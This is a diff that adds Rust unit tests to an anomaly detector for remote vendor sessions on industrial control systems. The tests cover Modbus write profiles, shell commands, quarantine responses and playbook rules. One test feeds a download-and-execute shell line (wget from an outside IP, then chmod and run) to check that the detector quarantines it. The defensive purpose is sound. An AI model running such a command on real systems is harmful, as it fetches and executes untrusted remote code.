@@ -707,3 +707,229 @@ fn strongest(
         _ => Some((name.to_owned(), action)),
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::observation::Table;
+    use time::macros::datetime;
+
+    const T0: OffsetDateTime = datetime!(2026-12-02 10:00 UTC);
+
+    fn context(id: &str, vendor: &str, asset: &str, level: PurdueLevel) -> SessionContext {
+        SessionContext {
+            id: id.into(),
+            grant: Some(7),
+            vendor: vendor.into(),
+            asset: asset.into(),
+            zone: Some("line-1".into()),
+            level: Some(level),
+            addresses: vec!["10.0.1.7".into()],
+            maintenance: Vec::new(),
+            started_at: T0,
+        }
+    }
+
+    fn command(session: &str, i: i64, line: &str) -> Observation {
+        Observation {
+            session: session.into(),
+            at: T0 + time::Duration::seconds(i),
+            what: Observed::Command {
+                line: line.into(),
+                allowed: true,
+            },
+        }
+    }
+
+    fn write(session: &str, i: i64, address: u16, value: u16) -> Observation {
+        Observation {
+            session: session.into(),
+            at: T0 + time::Duration::seconds(i),
+            what: Observed::Modbus {
+                request: ModbusRequest {
+                    unit: 1,
+                    function: 6,
+                    table: Some(Table::Holding),
+                    start: Some(address),
+                    count: Some(1),
+                    values: vec![value],
+                    exception: None,
+                },
+                allowed: true,
+            },
+        }
+    }
+
+    fn small() -> DetectorConfig {
+        DetectorConfig {
+            warmup_commands: 40,
+            warmup_requests: 40,
+            warmup_sessions: 2,
+            ..DetectorConfig::default()
+        }
+    }
+
+    #[test]
+    fn attacker_commands_terminate_a_level_one_session_at_once() {
+        let mut d = Detector::new(DetectorConfig::default()).unwrap();
+        let start = d.start(context("s1", "v", "plc-gw", PurdueLevel::L1));
+        assert_eq!((start.score, start.response), (0, None));
+        let a = d
+            .observe(&command(
+                "s1",
+                1,
+                "cd /tmp; wget http://198.51.100.7/x; chmod +x x; ./x",
+            ))
+            .unwrap();
+        assert!(a.risk >= 95, "{a:?}");
+        assert_eq!(a.response, Some(Response::Quarantine));
+        assert!(
+            a.explanation.contains("download then execute"),
+            "{}",
+            a.explanation
+        );
+        // The response is given once; the next event does not repeat it.
+        let again = d.observe(&command("s1", 2, "ls")).unwrap();
+        assert_eq!(again.response, None);
+        assert!(d.observe(&command("nobody", 3, "ls")).is_none());
+    }
+
+    #[test]
+    fn modbus_profiles_learn_from_clean_sessions_and_flag_what_is_new() {
+        let mut d = Detector::new(small()).unwrap();
+        d.start(context("train", "v", "plc-7", PurdueLevel::L2));
+        for i in 0..60u16 {
+            let a = d
+                .observe(&write("train", i64::from(i), 100 + i % 5, 100 + i))
+                .unwrap();
+            assert_eq!(a.response, None, "{a:?}");
+        }
+        d.end("train");
+        d.start(context("s2", "v", "plc-7", PurdueLevel::L2));
+        let usual = d.observe(&write("s2", 100, 102, 130)).unwrap();
+        assert_eq!(usual.score, 0, "{usual:?}");
+        let far = d.observe(&write("s2", 101, 102, 5000)).unwrap();
+        assert!(far.score >= 80, "{far:?}");
+        assert!(
+            far.explanation
+                .contains("outside the values seen (102-157)"),
+            "{}",
+            far.explanation
+        );
+        // Level 2 terminates at 90.
+        assert_eq!(far.response, Some(Response::Terminate));
+        let new = d.observe(&write("s2", 102, 4000, 1)).unwrap();
+        assert!(
+            new.findings[0]
+                .text
+                .contains("first write to holding 4000 on plc-7")
+        );
+        // The flagged session is not learnt: the far value stays abnormal.
+        d.end("s2");
+        d.start(context("s3", "v", "plc-7", PurdueLevel::L2));
+        assert!(d.observe(&write("s3", 200, 102, 5000)).unwrap().score >= 80);
+    }
+
+    #[test]
+    fn false_positives_feed_the_baseline() {
+        let mut d = Detector::new(small()).unwrap();
+        d.start(context("train", "v", "plc-7", PurdueLevel::L2));
+        for i in 0..60u16 {
+            d.observe(&write("train", i64::from(i), 100, 100 + i));
+        }
+        d.end("train");
+        d.start(context("s2", "v", "plc-7", PurdueLevel::L2));
+        let odd = write("s2", 100, 100, 900);
+        assert!(d.observe(&odd).unwrap().score >= 80);
+        d.end("s2");
+        d.learn_false_positive("v", "plc-7", &[odd.clone()]);
+        d.start(context("s3", "v", "plc-7", PurdueLevel::L2));
+        let again = Observation {
+            session: "s3".into(),
+            ..odd
+        };
+        assert_eq!(d.observe(&again).unwrap().score, 0);
+    }
+
+    #[test]
+    fn models_survive_a_restart() {
+        let mut d = Detector::new(small()).unwrap();
+        d.start(context("train", "v", "plc-7", PurdueLevel::L2));
+        for i in 0..60u16 {
+            d.observe(&write("train", i64::from(i), 100, 100 + i));
+            d.observe(&command(
+                "train",
+                i64::from(i),
+                "systemctl status historian",
+            ));
+        }
+        d.end("train");
+        let stored = d.take_dirty();
+        assert!(stored.iter().any(|(k, _)| k == "vendor:v"), "{stored:?}");
+        assert!(stored.iter().any(|(k, _)| k == "asset:plc-7"));
+        assert!(d.take_dirty().is_empty());
+        let mut restarted = Detector::new(small()).unwrap();
+        for (key, body) in &stored {
+            restarted.load(key, body).unwrap();
+        }
+        restarted.start(context("s2", "v", "plc-7", PurdueLevel::L2));
+        assert!(
+            restarted
+                .observe(&write("s2", 100, 100, 5000))
+                .unwrap()
+                .score
+                >= 80
+        );
+        assert!(restarted.load("vendor:x", "{not json").is_err());
+        assert!(restarted.load("gadget:x", "{}").is_err());
+    }
+
+    #[test]
+    fn external_alerts_raise_the_risk_of_the_assets_sessions() {
+        let mut d = Detector::new(DetectorConfig::default()).unwrap();
+        d.start(context("a", "v", "plc-7", PurdueLevel::L1));
+        d.start(context("b", "w", "hmi-2", PurdueLevel::L2));
+        let touched = d.external("plc-7", 6, "ET SCADA write from unusual host", T0);
+        assert_eq!(touched.len(), 1);
+        assert_eq!(touched[0].session, "a");
+        assert_eq!(touched[0].response, Some(Response::Freeze));
+        assert!(touched[0].explanation.contains("external alert on plc-7"));
+    }
+
+    #[test]
+    fn rules_act_at_once_whatever_the_score() {
+        let mut config = DetectorConfig::default();
+        config.playbook.rules.push(crate::playbook::RuleConfig {
+            name: "safety PLC trips".into(),
+            modbus_write: Some("holding:4000-4099".into()),
+            commands: vec![],
+            assets: vec!["plc-7".into()],
+            action: Response::Terminate,
+        });
+        let mut d = Detector::new(config).unwrap();
+        d.start(context("s", "v", "plc-7", PurdueLevel::L3));
+        let a = d.observe(&write("s", 1, 4010, 0)).unwrap();
+        assert_eq!(a.response, Some(Response::Terminate));
+        assert_eq!(a.rule.as_deref(), Some("safety PLC trips"));
+    }
+
+    #[test]
+    fn vendors_get_hours_and_first_contacts_once_warm() {
+        let mut d = Detector::new(small()).unwrap();
+        for day in 0..3 {
+            let mut c = context(&format!("d{day}"), "v", "plc-7", PurdueLevel::L2);
+            c.started_at = T0 + time::Duration::days(day);
+            d.start(c);
+            d.end(&format!("d{day}"));
+        }
+        let mut night = context("n", "v", "hmi-9", PurdueLevel::L2);
+        night.started_at = datetime!(2026-12-06 02:14 UTC);
+        let a = d.start(night);
+        let texts: Vec<&str> = a.findings.iter().map(|f| f.text.as_str()).collect();
+        assert!(
+            texts.contains(&"Sun 02:14 UTC is outside v's usual hours"),
+            "{texts:?}"
+        );
+        assert!(texts.contains(&"first session of v on hmi-9"), "{texts:?}");
+    }
+}
